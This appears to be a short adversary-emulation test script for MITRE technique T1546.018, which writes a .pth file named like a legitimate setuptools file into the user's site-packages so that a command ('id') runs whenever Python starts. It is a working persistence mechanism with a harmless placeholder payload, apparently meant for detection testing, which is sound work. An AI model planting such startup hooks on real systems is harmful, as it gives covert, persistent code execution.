#!/usr/bin/env python3
# title: A .pth file runs code whenever a user's Python starts
# technique: T1546.018
# needs: python3
# as: user
# short: yes

import os, site
folder = os.path.expanduser("~/.local/lib/python3.11/site-packages")
os.makedirs(folder)
open(folder + "/distutils-precedence.pth", "w").write("import os; os.system('id')\n")
open(folder + "/usercustomize.py", "w").write("import os\n")
